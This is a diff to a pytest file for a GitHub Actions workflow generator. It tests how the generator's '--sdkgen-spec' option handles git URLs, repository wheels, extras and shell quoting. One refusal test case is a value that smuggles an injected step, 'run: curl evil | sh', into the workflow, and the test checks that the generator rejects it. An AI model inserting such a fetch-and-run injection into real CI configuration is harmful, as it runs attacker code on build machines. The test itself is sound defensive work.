@@ -5,13 +5,17 @@ written only where asked."""
 
 from __future__ import annotations
 
+import json
+import shlex
 import shutil
 import subprocess
 import sys
+import zipfile
 from pathlib import Path
 
 import pytest
 import yaml
+from packaging.requirements import Requirement
 
 from sdkgen.ci import github
 from sdkgen.cli import main
@@ -42,6 +46,26 @@ module = "AndroidOnly"
 """
 
 
+#: ``--sdkgen-spec`` values of the fixture's extra workflows (the samples' use the default, PyPI).
+GIT_SPEC = "sdkgen @ git+https://github.com/example/sdkgen@v0.1.0"
+WHEEL_SPEC = "wheels/sdkgen-0.1.0-py3-none-any.whl"
+
+
+def _wheel(path: Path) -> Path:
+    """A minimal wheel of a distribution ``sdkgen`` with the ``check`` and ``litert`` extras (pip reads its
+    metadata; nothing is installed from it)."""
+    path.parent.mkdir(parents=True, exist_ok=True)
+    metadata = "Metadata-Version: 2.1\nName: sdkgen\nVersion: 0.1.0\nProvides-Extra: check\nProvides-Extra: litert\n"
+    with zipfile.ZipFile(path, "w") as z:
+        z.writestr("sdkgen-0.1.0.dist-info/METADATA", metadata)
+        z.writestr(
+            "sdkgen-0.1.0.dist-info/WHEEL",
+            "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+        )
+        z.writestr("sdkgen-0.1.0.dist-info/RECORD", "")
+    return path
+
+
 def _android_only(repo: Path) -> Path:
     folder = repo / "ml" / "android only"  # a space: the path must survive YAML and shell quoting
     folder.mkdir(parents=True)
@@ -52,13 +76,20 @@ def _android_only(repo: Path) -> Path:
 
 @pytest.fixture(scope="module")
 def workflows(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[str, dict]]:
-    """name -> (workflow text, parsed YAML) for each sample and the Android-only config, each also written to
-    ``<repo>/.github/workflows/<name>.yml`` of a scratch repository (the linters read them there)."""
+    """name -> (workflow text, parsed YAML) for each sample and the Android-only config, and two that install
+    sdkgen from elsewhere (tiny-llm from :data:`GIT_SPEC`, Android-only from the wheel :data:`WHEEL_SPEC` of the
+    repository), each also written to ``<repo>/.github/workflows/<name>.yml`` of a scratch repository (the
+    linters read them there)."""
     repo = tmp_path_factory.mktemp("repo")
     out: dict[str, tuple[str, dict]] = {}
     for name in SAMPLES:
         out[name] = _text_and_yaml(github.render_workflow(load_config(ROOT / "samples" / name), ROOT))
     out["android-only"] = _text_and_yaml(github.render_workflow(load_config(_android_only(repo)), repo))
+    tiny = load_config(ROOT / "samples" / "tiny-llm")
+    out["tiny-llm-git"] = _text_and_yaml(github.render_workflow(tiny, ROOT, GIT_SPEC))
+    _wheel(repo / WHEEL_SPEC)
+    only = load_config(repo / "ml" / "android only")
+    out["android-only-wheel"] = _text_and_yaml(github.render_workflow(only, repo, WHEEL_SPEC))
     for name, (text, _) in out.items():
         github.write_workflow(text, repo / ".github" / "workflows" / f"{name}.yml")
     out["_repo"] = (str(repo), {})
@@ -109,7 +140,7 @@ def test_workflows_pass_zizmor(workflows: dict[str, tuple[str, dict]]) -> None:
 def test_workflows_match_githubs_schema(workflows: dict[str, tuple[str, dict]]) -> None:
     repo = _repo(workflows)
     files = sorted(str(p) for p in (repo / ".github" / "workflows").glob("*.yml"))
-    assert len(files) == len(SAMPLES) + 1
+    assert len(files) == len(SAMPLES) + 3
     r = subprocess.run(
         [_tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", *files],
         capture_output=True,
@@ -257,3 +288,112 @@ def test_config_outside_the_repository_is_refused(tmp_path: Path) -> None:
     with pytest.raises(ConfigError, match="outside the repository") as e:
         github.render_workflow(load_config(ROOT / "samples" / "tiny-llm"), tmp_path)
     assert "repository's top folder" in (e.value.hint or "")
+
+
+def _install(job: dict) -> list[str]:
+    """The requirements of a job's ``Install sdkgen`` step, as the shell splits them."""
+    run = next(s["run"] for s in _steps(job) if s.get("name") == "Install sdkgen")
+    words = shlex.split(run)
+    assert words[:4] == ["python", "-m", "pip", "install"], run
+    return words[4:]
+
+
+def test_sdkgen_spec_from_git(workflows: dict[str, tuple[str, dict]]) -> None:
+    """A URL requirement: the build job gets it with the targets' extras, the device jobs as given; pip's own
+    requirement parser (``packaging``) reads each back."""
+    text, wf = workflows["tiny-llm-git"]
+    given = Requirement(GIT_SPEC)
+    (build,) = _install(wf["jobs"]["build"])
+    req = Requirement(build)
+    assert (req.name, req.url, req.marker) == ("sdkgen", given.url, None)
+    assert sorted(req.extras) == github._extras(load_config(ROOT / "samples" / "tiny-llm"))
+    for job in ("android", "ios"):
+        assert _install(wf["jobs"][job]) == [GIT_SPEC]
+        assert "actions/checkout" not in _uses(wf["jobs"][job])  # nothing of the repository is needed
+    written_by = next(line for line in text.splitlines() if line.startswith("# Written by `"))
+    assert shlex.split(written_by.split("`")[1])[-2:] == ["--sdkgen-spec", GIT_SPEC]
+
+
+def test_sdkgen_spec_from_a_wheel_in_the_repository(workflows: dict[str, tuple[str, dict]]) -> None:
+    """A wheel path: pip (``install --dry-run --report``) resolves the build job's argument to that wheel with the
+    targets' extras, and the device job checks the repository out before installing it."""
+    _, wf = workflows["android-only-wheel"]
+    repo = _repo(workflows)
+    (build,) = _install(wf["jobs"]["build"])
+    pip = [sys.executable, "-m", "pip", "install", "-q", "--dry-run", "--no-deps", "--no-index", "--ignore-installed"]
+    r = subprocess.run(
+        [*pip, "--report", "-", build],
+        cwd=repo,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+    assert r.returncode == 0, r.stderr
+    (item,) = json.loads(r.stdout)["install"]
+    assert item["metadata"]["name"] == "sdkgen"
+    assert item["download_info"]["url"] == (repo / WHEEL_SPEC).as_uri()
+    assert sorted(item["requested_extras"]) == github._extras(load_config(repo / "ml" / "android only"))
+    android = wf["jobs"]["android"]
+    assert _uses(android).index("actions/checkout") < _uses(android).index("actions/setup-python")
+    checkout = next(s for s in _steps(android) if s.get("uses", "").startswith("actions/checkout@"))
+    assert checkout["with"]["persist-credentials"] is False
+    assert _install(android) == [f"./{WHEEL_SPEC}"]
+
+
+def test_sdkgen_spec_keeps_named_extras_and_survives_yaml_and_shell(tmp_path: Path) -> None:
+    """Extras named in SPEC are kept as they are; quotes, ``#``, ``;`` and spaces come back intact from the YAML
+    and the shell, and pip's parser reads the same requirement."""
+    config = load_config(ROOT / "samples" / "tiny-llm")
+    url = "https://example.com/dl/sdkgen-0.1.0-py3-none-any.whl#sha256=" + "0" * 64
+    for spec, extras in [
+        (f'sdkgen @ {url} ; python_version >= "3.11"', github._extras(config)),
+        ("sdkgen[litert]==0.1.0", ["litert"]),
+        ("sdkgen>=0.1,<0.2", github._extras(config)),
+        ("git+https://github.com/example/sdkgen@v0.1.0", github._extras(config)),
+    ]:
+        wf = yaml.safe_load(github.render_workflow(config, ROOT, spec))
+        (build,) = _install(wf["jobs"]["build"])
+        req = Requirement(build)
+        assert req.name == "sdkgen" and sorted(req.extras) == extras, (spec, build)
+        if "://" in spec:
+            assert req.url == (Requirement(spec).url if spec.startswith("sdkgen") else spec)
+        else:
+            assert req.specifier == Requirement(spec).specifier
+        given = Requirement(spec) if spec.startswith("sdkgen") else None
+        assert str(req.marker) == str(given.marker if given else None)
+
+
+@pytest.mark.parametrize(
+    ("spec", "why"),
+    [
+        ("/opt/wheels/sdkgen-0.1.0-py3-none-any.whl", "not a path inside the repository"),  # this machine's
+        ("../sdkgen-0.1.0-py3-none-any.whl", "not a path inside the repository"),
+        ("wheels/missing-0.1.0-py3-none-any.whl", "is not in the repository folder"),
+        ("sdkgen @ file:///tmp/sdkgen-0.1.0-py3-none-any.whl", "not a remote URL"),
+        ("numpy==2.0", "another distribution"),
+        ("sdkgen==0.1.0\n  - run: curl evil | sh", "control character"),  # would end the YAML comment
+        ("", "empty"),
+        ("sdkgen is great", "not a pip requirement"),
+    ],
+)
+def test_bad_sdkgen_specs_are_refused(spec: str, why: str) -> None:
+    with pytest.raises(ConfigError, match=why) as e:
+        github.render_workflow(load_config(ROOT / "samples" / "tiny-llm"), ROOT, spec)
+    assert e.value.hint
+
+
+def test_cli_sdkgen_spec_round_trips(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The command in the header regenerates the same workflow (with the same SPEC)."""
+    repo = tmp_path / "app"
+    repo.mkdir()
+    _android_only(repo)
+    _wheel(repo / WHEEL_SPEC)
+    monkeypatch.chdir(repo)
+    out = repo / ".github" / "workflows" / "sdkgen.yml"
+    assert main(["ci", "github", "ml/android only", "--sdkgen-spec", WHEEL_SPEC]) == 0
+    first = out.read_bytes()
+    written_by = next(line for line in first.decode().splitlines() if line.startswith("# Written by `"))
+    args = shlex.split(written_by.split("`")[1])
+    assert args[:3] == ["sdkgen", "ci", "github"]
+    assert main([*args[1:], "--force"]) == 0
+    assert out.read_bytes() == first
